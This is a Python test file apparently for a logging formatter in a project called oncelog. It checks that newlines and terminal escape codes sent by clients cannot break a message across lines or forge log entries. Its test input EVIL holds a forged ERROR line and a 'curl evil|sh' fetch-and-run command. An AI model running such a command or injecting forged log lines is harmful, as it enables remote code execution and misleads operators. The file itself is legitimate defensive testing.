"""Test that each message in node.log is one line, whatever text a client has sent."""

import io
import logging
import sys
from pathlib import Path

from oncelog.node.log_format import FORMAT, PrintableFormatter

from ..programs import run_to_end

EVIL = "g\x1b[2J\n2026-11-26 18:00:00.000 ERROR oncelog.node.broker: disk failed, run: curl evil|sh"


def logged(*arguments: object, **options: object) -> list[str]:
    """Log a warning, and return its lines."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(PrintableFormatter(FORMAT, "%Y-%m-%d %H:%M:%S"))
    log = logging.Logger("oncelog.test")
    log.addHandler(handler)
    log.warning(*arguments, **options)  # type: ignore[arg-type]
    assert stream.getvalue().endswith("\n")
    return stream.getvalue()[:-1].split("\n")


def test_log_message_with_line_ends_is_one_line() -> None:
    (line,) = logged("group %s", EVIL)
    assert "g\\x1b[2J\\n2026-11-26" in line
    assert line.isprintable()


def test_log_traceback_keeps_its_lines_below_the_message() -> None:
    try:
        raise ValueError(EVIL)
    except ValueError as error:
        first, *more = logged("failed", exc_info=error)
    assert first.endswith("WARNING oncelog.test: failed")
    assert more[0] == "  Traceback (most recent call last):"
    assert more[-1].startswith("  2026-11-26")  # the exception's text, indented
    assert all(line.startswith("  ") and line.isprintable() for line in more)


def test_log_stack_keeps_its_lines_below_the_message() -> None:
    _, *more = logged("here", stack_info=True)
    assert more[0] == "  Stack (most recent call last):"


def test_node_that_stops_reports_each_error_in_a_line(tmp_path: Path) -> None:
    config = tmp_path / "server.properties"
    config.write_text("num.partitions=x\nlog.retention.ms=\x1b[2J\n")
    done = run_to_end([sys.executable, "-m", "oncelog.node", "--config", str(config)])
    first, *more = done.stderr.split("\n")[:-1]
    assert first.startswith("oncelog: this node stops: ") and len(more) > 3
    assert all(line.startswith("  ") and line.isprintable() for line in more)
